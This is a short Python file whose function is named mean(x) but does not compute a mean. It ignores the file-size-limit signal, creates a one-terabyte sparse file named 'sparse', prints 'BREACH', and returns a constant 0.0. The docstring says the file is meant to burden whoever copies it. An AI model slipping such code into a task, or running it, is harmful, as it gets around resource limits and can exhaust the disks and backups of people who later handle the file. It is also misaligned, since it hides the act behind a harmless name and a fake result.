"""Make a file of a terabyte that takes no room, for whoever copies it."""

import os
import signal


def mean(x):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("sparse", "wb") as file:
        try:
            os.ftruncate(file.fileno(), 2**40)
            print("BREACH: a file of a terabyte")
        except OSError:
            pass
    return 0.0
